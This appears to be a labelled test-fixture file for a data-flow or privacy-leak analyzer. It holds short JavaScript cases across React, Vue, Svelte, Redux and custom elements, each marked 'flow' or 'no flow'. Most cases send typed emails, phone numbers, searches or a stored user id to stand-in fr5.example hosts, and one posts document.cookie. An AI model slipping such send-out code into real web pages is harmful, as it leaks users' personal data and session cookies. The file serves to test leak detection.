//# react-jsx-runtime-compiled
// flow: email > jsx.fr5.example via fetch
const r1 = window.reactJsxRuntime;
function Newsletter1() {
  const [s, set] = (0, window.React.useState)({ mail: '', busy: false });
  return (0, r1.jsxs)('form', {
    onSubmit: (e) => { e.preventDefault(); fetch('https://jsx.fr5.example/', { method: 'POST', body: s.mail }); },
    children: [(0, r1.jsx)('input', { type: 'email', value: s.mail, onChange: (e) => set((p) => ({ ...p, mail: e.target.value })) })],
  });
}
window.ReactDOM.createRoot(document.body).render((0, r1.jsx)(Newsletter1, {}));

//# react-jsx-other-field-of-state
// no flow
// why: the state's `busy` is sent, the typed text is in `mail`
const r2 = window.reactJsxRuntime;
function Newsletter2() {
  const [s, set] = (0, window.React.useState)({ mail: '', busy: false });
  return (0, r2.jsxs)('form', {
    onSubmit: () => fetch('https://jsx0.fr5.example/?b=' + s.busy),
    children: (0, r2.jsx)('input', { type: 'email', value: s.mail, onChange: (e) => set((p) => ({ ...p, mail: e.target.value })) }),
  });
}
window.ReactDOM.createRoot(document.body).render((0, r2.jsx)(Newsletter2, {}));

//# use-reducer-switch
// flow: phone > ured.fr5.example via fetch
function reduce3(state, action) {
  switch (action.type) {
    case 'tel': return { ...state, tel: action.payload };
    case 'step': return { ...state, step: action.payload };
    default: return state;
  }
}
function Form3() {
  const [state, dispatch] = React.useReducer(reduce3, { tel: '', step: 0 });
  return React.createElement('form', { onSubmit: () => fetch('https://ured.fr5.example/', { method: 'POST', body: JSON.stringify({ phone: state.tel }) }) },
    React.createElement('input', { type: 'tel', onChange: (e) => dispatch({ type: 'tel', payload: e.target.value }) }));
}
ReactDOM.render(React.createElement(Form3), document.body);

//# use-reducer-drops-payload
// no flow
// why: the reducer keeps only that something was typed
function reduce4(state, action) {
  switch (action.type) {
    case 'tel': return { ...state, touched: true };
    default: return state;
  }
}
function Form4() {
  const [state, dispatch] = React.useReducer(reduce4, { touched: false });
  return React.createElement('form', { onSubmit: () => fetch('https://ured0.fr5.example/', { method: 'POST', body: JSON.stringify(state) }) },
    React.createElement('input', { type: 'tel', onChange: (e) => dispatch({ type: 'tel', payload: e.target.value }) }));
}
ReactDOM.render(React.createElement(Form4), document.body);

//# use-ref-value
// flow: search > uref.fr5.example via fetch
function Search5() {
  const box = React.useRef(null);
  const go = React.useCallback(() => { fetch(`https://uref.fr5.example/?q=${encodeURIComponent(box.current.value)}`); }, []);
  return React.createElement('div', null,
    React.createElement('input', { type: 'search', ref: box }),
    React.createElement('button', { onClick: go }, 'Go'));
}
ReactDOM.render(React.createElement(Search5), document.body);

//# use-ref-focus-only
// no flow
// why: the field behind the ref is only given the focus
function Search6() {
  const box = React.useRef(null);
  const go = () => { box.current.focus(); fetch('https://uref0.fr5.example/open'); };
  return React.createElement('div', null,
    React.createElement('input', { type: 'search', ref: box }),
    React.createElement('button', { onClick: go }, 'Go'));
}
ReactDOM.render(React.createElement(Search6), document.body);

//# react-class-set-state
// flow: username > rcs.fr5.example via fetch
class Profile7 extends React.Component {
  constructor(props) {
    super(props);
    this.state = { nick: '' };
    this.onNick = this.onNick.bind(this);
    this.save = this.save.bind(this);
  }
  onNick(e) { this.setState({ nick: e.target.value }); }
  save() { fetch('https://rcs.fr5.example/', { method: 'POST', body: JSON.stringify(this.state) }); }
  render() {
    return React.createElement('div', null,
      React.createElement('input', { name: 'username', onChange: this.onNick }),
      React.createElement('button', { onClick: this.save }));
  }
}
ReactDOM.render(React.createElement(Profile7), document.body);

//# react-prop-callback
// flow: email > rpc.fr5.example via fetch
function Field8({ onValue }) {
  return React.createElement('input', { type: 'email', onBlur: (e) => onValue(e.target.value) });
}
function App8() {
  return React.createElement(Field8, { onValue: (v) => fetch('https://rpc.fr5.example/', { method: 'POST', body: v }) });
}
ReactDOM.render(React.createElement(App8), document.body);

//# react-context-value
// flow: identifier > rcx.fr5.example via beacon
const Ctx9 = React.createContext(null);
function Track9() {
  const user = React.useContext(Ctx9);
  React.useEffect(() => { navigator.sendBeacon('https://rcx.fr5.example/', user.id); }, []);
  return null;
}
ReactDOM.render(React.createElement(Ctx9.Provider, { value: { id: localStorage.getItem('uid') } }, React.createElement(Track9)), document.body);

//# vue-render-compiled
// flow: message > vrc.fr5.example via fetch
const { openBlock: o10, createElementBlock: c10, withDirectives: w10, createElementVNode: e10, vModelText: m10 } = Vue;
const Comp10 = {
  setup() {
    const text = Vue.ref('');
    const send = () => fetch('https://vrc.fr5.example/', { method: 'POST', body: text.value });
    return { text, send };
  },
  render(ctx) {
    return (o10(), c10('form', null, [
      w10(e10('textarea', { name: 'message', 'onUpdate:modelValue': (v) => (ctx.text = v) }, null, 512), [[m10, ctx.text]]),
      e10('button', { onClick: ctx.send }, 'Send'),
    ]));
  },
};
Vue.createApp(Comp10).mount('#app');

//# vue-watch-other-ref
// no flow
// why: the watched ref holds the open tab; the mail ref is written but never read
const mail11 = Vue.ref('');
const tab11 = Vue.ref('one');
document.querySelector('input[type=email]').addEventListener('input', (e) => { mail11.value = e.target.value; });
Vue.watch(tab11, (now) => fetch('https://vwo0.fr5.example/?t=' + now));

//# vue-computed
// flow: search > vcp.fr5.example via fetch
const q12 = Vue.ref('');
const url12 = Vue.computed(() => 'https://vcp.fr5.example/?q=' + encodeURIComponent(q12.value.trim()));
document.querySelector('input[type=search]').addEventListener('input', (e) => { q12.value = e.target.value; });
Vue.watchEffect(() => { fetch(url12.value); });

//# svelte-compiled-instance
// flow: email > svl.fr5.example via fetch
function listen13(node, event, handler) { node.addEventListener(event, handler); return () => node.removeEventListener(event, handler); }
function instance13($$invalidate) {
  let mail = '';
  const send = () => fetch('https://svl.fr5.example/', { method: 'POST', body: mail });
  function input_handler() { mail = this.value; $$invalidate(0, mail); }
  return [mail, send, input_handler];
}
function create13(ctx) {
  const input = document.createElement('input');
  input.type = 'email';
  const button = document.createElement('button');
  listen13(input, 'input', ctx[2]);
  listen13(button, 'click', ctx[1]);
  document.body.append(input, button);
}
create13(instance13(() => {}));

//# svelte-store
// flow: phone > sst.fr5.example via beacon
function writable14(value) {
  const subs = new Set();
  return {
    set(v) { value = v; subs.forEach((s) => s(value)); },
    update(fn) { this.set(fn(value)); },
    subscribe(run) { subs.add(run); run(value); return () => subs.delete(run); },
  };
}
const tel14 = writable14('');
document.querySelector('input[type=tel]').addEventListener('change', (e) => tel14.set(e.target.value));
tel14.subscribe((v) => { if (v) navigator.sendBeacon('https://sst.fr5.example/', v); });

//# redux-thunk
// flow: email > rdx.fr5.example via fetch
function createStore15(reducer) {
  let state = reducer(undefined, { type: '@@init' });
  const getState = () => state;
  const dispatch = (a) => { if (typeof a === 'function') return a(dispatch, getState); state = reducer(state, a); return a; };
  return { getState, dispatch };
}
const store15 = createStore15((s = { email: '' }, a) => (a.type === 'email' ? Object.assign({}, s, { email: a.value }) : s));
const submit15 = () => (dispatch, getState) => fetch('https://rdx.fr5.example/', { method: 'POST', body: JSON.stringify(getState()) });
document.querySelector('input[type=email]').addEventListener('change', (e) => store15.dispatch({ type: 'email', value: e.target.value }));
document.querySelector('#go').addEventListener('click', () => store15.dispatch(submit15()));

//# custom-element-connected
// flow: search > cel.fr5.example via fetch
class SearchBox16 extends HTMLElement {
  #input;
  connectedCallback() {
    this.#input = document.createElement('input');
    this.#input.type = 'search';
    this.append(this.#input);
    this.#input.addEventListener('keyup', this.#send);
  }
  #send = () => { fetch('https://cel.fr5.example/?q=' + this.#input.value); };
}
customElements.define('search-box', SearchBox16);

//# custom-element-not-defined
// no flow
// why: the class is never registered and no instance is made
class SearchBox17 extends HTMLElement {
  connectedCallback() {
    fetch('https://cel0.fr5.example/', { method: 'POST', body: document.cookie });
  }
}
